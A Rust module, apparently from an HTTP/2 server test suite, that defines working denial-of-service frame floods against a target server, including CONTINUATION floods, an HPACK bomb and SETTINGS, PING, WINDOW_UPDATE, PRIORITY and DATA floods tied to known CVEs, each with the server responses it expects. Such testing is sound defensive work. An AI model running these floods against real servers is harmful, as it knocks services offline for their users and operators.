//! Floods of HTTP/2 frames.
//!
//! The server either ends the connection, or takes the frames at the speed at which it handles them and remembers none.

use super::end::End;
use super::http2::{
    CALM, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, PROTOCOL_ERROR,
    RawConnection, Reading, SETTINGS, WINDOW_UPDATE, frame, literal, streams,
};
use super::victim::{Attack, Attacking, Victim};
use std::iter::{once, repeat_n};
use std::sync::Arc;

const CONNECTIONS: usize = 8;
/// Frames of one flood.
const FRAMES: usize = 100_000;
/// Frames in one write.
const BATCH: usize = 500;
/// An unread connection may fill its socket buffers, until the server gives it up.
const SHORT_STALL: &[&str] = &["--stall-timeout", "2s"];
const SHORT_BODY: &[&str] = &["--body-timeout", "2s"];
/// Of a connection that answers no PING.
const SHORT_KEEPALIVE: &[&str] = &["--keepalive", "2s"];
/// ENHANCE_YOUR_CALM, FRAME_SIZE_ERROR, COMPRESSION_ERROR, STREAM_CLOSED: what a server may call them.
const ENDED: &[End] = &[End::Closed, CALM, PROTOCOL_ERROR, End::Code(6), End::Code(9), End::Code(5)];
const ANY: &[End] = &[End::Survived, End::Closed, CALM];

/// The attacks.
pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "continuation-flood",
        about: "a head that never ends (CVE-2024-27316)",
        ends: ENDED,
        run: |victim| {
            flood(victim, Reading::Yes, &[], |connection| {
                let head = frame(HEADERS, 0, 1, &connection.requests().block("GET", "/"));
                let more = literal(0, "x", "y").repeat(2000);
                once(head).chain(repeat_n(frame(CONTINUATION, 0, 1, &more), FRAMES)).collect_boxed()
            })
        },
        ..Attack::USUAL
    },
    Attack {
        name: "empty-continuation-flood",
        about: "a head of empty frames, which no limit of bytes ends",
        server: SHORT_KEEPALIVE,
        ends: ENDED,
        run: |victim| {
            flood(victim, Reading::Yes, &[], |connection| {
                let head = frame(HEADERS, 0, 1, &connection.requests().block("GET", "/"));
                once(head).chain(batches(frame(CONTINUATION, 0, 1, &[]))).collect_boxed()
            })
        },
        ..Attack::USUAL
    },
    Attack {
        name: "hpack-bomb",
        about: "fields of 4 KiB that take one byte each (CVE-2016-6581)",
        ends: &[End::Survived, End::Closed, CALM, PROTOCOL_ERROR, End::Code(9)],
        run: |victim| {
            flood(victim, Reading::Yes, &[], |connection| {
                let request = connection.requests().block("GET", "/");
                let large = literal(0x40, "x", &"y".repeat(3900));
                let bomb = move |stream| {
                    // The first field of the dynamic table has index 62.
                    let block = [&request[..], &large, &[0x80 | 62; 8000]].concat();
                    frame(HEADERS, END_STREAM | END_HEADERS, stream, &block)
                };
                streams().take(2000).map(bomb).collect_boxed()
            })
        },
        ..Attack::USUAL
    },
    Attack {
        name: "settings-flood",
        about: "settings that must be acknowledged (CVE-2019-9515)",
        ends: ANY,
        run: |victim| {
            flood(victim, Reading::Yes, &[], |_| {
                batches(frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff])).collect_boxed()
            })
        },
        ..Attack::USUAL
    },
    Attack {
        name: "settings-flood-unread",
        about: "the same by a client that reads no acknowledgement",
        server: SHORT_STALL,
        ends: &[End::Closed],
        run: |victim| flood(victim, Reading::No, &[], |_| endless(frame(SETTINGS, 0, 0, &[]))),
        ..Attack::USUAL
    },
    Attack {
        name: "ping-flood",
        about: "PINGs that must be answered (CVE-2019-9512)",
        ends: ANY,
        run: |victim| {
            flood(victim, Reading::Yes, &[], |_| batches(frame(PING, 0, 0, b"flooding")).collect_boxed())
        },
        ..Attack::USUAL
    },
    Attack {
        name: "ping-flood-unread",
        about: "the same by a client that reads no answer",
        server: SHORT_STALL,
        ends: &[End::Closed],
        run: |victim| flood(victim, Reading::No, &[], |_| endless(frame(PING, 0, 0, b"flooding"))),
        ..Attack::USUAL
    },
    Attack {
        name: "window-flood",
        about: "windows that grow by one byte (CVE-2019-9511)",
        ends: ANY,
        run: |victim| {
            flood(victim, Reading::Yes, &[], |_| {
                batches(frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes())).collect_boxed()
            })
        },
        ..Attack::USUAL
    },
    Attack {
        name: "priority-flood",
        about: "priorities of streams that do not exist (CVE-2019-9513)",
        ends: ANY,
        run: |victim| {
            flood(victim, Reading::Yes, &[], |_| {
                let priority = |stream| frame(PRIORITY, 0, stream, &[0, 0, 0, 0, 16]);
                let mut streams = streams().take(FRAMES);
                std::iter::from_fn(move || {
                    let batch: Vec<u8> = streams.by_ref().take(BATCH).flat_map(priority).collect();
                    (!batch.is_empty()).then_some(batch)
                })
                .collect_boxed()
            })
        },
        ..Attack::USUAL
    },
    Attack {
        name: "empty-data-flood",
        about: "empty DATA frames of a body that never ends (CVE-2019-9518)",
        server: SHORT_BODY,
        ends: ANY,
        run: |victim| flood(victim, Reading::Yes, &[], |connection| body_of(connection, &[])),
        ..Attack::USUAL
    },
    Attack {
        name: "small-data-flood",
        about: "a body in frames of one byte",
        server: SHORT_BODY,
        ends: &[End::Survived, End::Closed, CALM, End::Code(3), End::Code(5)],
        run: |victim| flood(victim, Reading::Yes, &[], |connection| body_of(connection, b"x")),
        ..Attack::USUAL
    },
    Attack {
        name: "unknown-frame-flood",
        about: "frames of a type that nobody has defined",
        ends: ANY,
        run: |victim| {
            flood(victim, Reading::Yes, &[], |_| batches(frame(0xfa, 0, 0, b"unknown")).collect_boxed())
        },
        ..Attack::USUAL
    },
    Attack {
        name: "huge-frame",
        about: "a frame whose length exceeds the limit of 16 KiB",
        ends: ENDED,
        run: |victim| {
            flood(victim, Reading::Yes, &[], |_| {
                let mut huge = frame(DATA, 0, 1, &[7; 1024]);
                (huge[0], huge[1], huge[2]) = (0xff, 0xff, 0xff);
                once(huge).chain(repeat_n(vec![7; 16 * 1024], 64)).collect_boxed()
            })
        },
        ..Attack::USUAL
    },
];

type Chunks = Box<dyn Iterator<Item = Vec<u8>> + Send>;

/// Repeats a flood on [`CONNECTIONS`].
fn flood(
    victim: Arc<Victim>,
    reading: Reading,
    settings: &'static [u8],
    chunks: fn(&RawConnection) -> Chunks,
) -> Attacking {
    Box::pin(victim.repeat(CONNECTIONS, move |victim, _| async move {
        let connection = RawConnection::connect(&victim.dialer, settings).await?;
        let chunks = chunks(&connection);
        Ok(connection.flood(chunks, reading).await)
    }))
}

/// A request with a body that never ends, in frames of this payload.
fn body_of(connection: &RawConnection, payload: &'static [u8]) -> Chunks {
    let head = frame(HEADERS, END_HEADERS, 1, &connection.requests().block("POST", "/subscribe"));
    once(head).chain(batches(frame(DATA, 0, 1, payload))).collect_boxed()
}

/// The same frame [`FRAMES`] times.
fn batches(frame: Vec<u8>) -> impl Iterator<Item = Vec<u8>> {
    repeat_n(frame.repeat(BATCH), FRAMES / BATCH)
}

fn endless(frame: Vec<u8>) -> Chunks {
    Box::new(std::iter::repeat(frame.repeat(BATCH)))
}

/// Boxes an iterator, so that all attacks have the same type.
trait CollectBoxed {
    fn collect_boxed(self) -> Chunks;
}

impl<I: Iterator<Item = Vec<u8>> + Send + 'static> CollectBoxed for I {
    fn collect_boxed(self) -> Chunks {
        Box::new(self)
    }
}
